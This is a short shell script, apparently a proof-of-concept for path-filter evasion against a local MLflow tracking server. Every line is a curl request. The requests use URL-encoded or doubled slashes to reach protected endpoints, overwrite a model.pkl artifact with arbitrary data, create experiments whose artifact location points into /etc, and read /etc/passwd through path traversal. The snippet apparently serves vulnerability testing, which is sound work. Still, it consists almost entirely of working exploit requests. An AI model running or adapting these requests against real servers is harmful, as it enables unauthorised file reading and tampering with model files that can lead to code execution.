# server-side effect proof for the encoded/doubled-slash forms
curl -s -w ' %{http_code}\n' "http://127.0.0.1:5077/api/2.0/mlflow%2Dartifacts/artifacts/1/c28d3c2190734031834ef4017596657e/artifacts/docs/notes.txt"
curl -s -w ' %{http_code}\n' -X PUT --data-binary 'evil' "http://127.0.0.1:5077/api/2.0/mlflow%2Dartifacts/artifacts/1/c28d3c2190734031834ef4017596657e/artifacts/model.pkl"
curl -s -w ' %{http_code}\n' -H 'Content-Type: application/json' -d '{"name":"evasion-exp","artifact_location":"file:///tmp/../../etc"}' "http://127.0.0.1:5077//api/2.0/mlflow/experiments/create"
curl -s -w ' %{http_code}\n' -H 'Content-Type: application/json' -d '{"name":"evasion-exp2","artifact_location":"file:///tmp/../../etc"}' "http://127.0.0.1:5077/api/2.0/mlflow/experiments%2Fcreate"
curl -s -w ' %{http_code}\n' -H 'Content-Type: application/json' -d '{"name":"evasion-exp3","artifact_location":"file:///tmp/../../etc"}' "http://127.0.0.1:5077/%61pi/2.0/mlflow/experiments/create"
curl -s -w ' %{http_code}\n' "http://127.0.0.1:5077/get%2Dartifact?path=..%2F..%2Fetc%2Fpasswd&run_uuid=c28d3c2190734031834ef4017596657e"
curl -s -w ' %{http_code}\n' "http://127.0.0.1:5077//get-artifact?path=..%2F..%2Fetc%2Fpasswd&run_uuid=c28d3c2190734031834ef4017596657e"
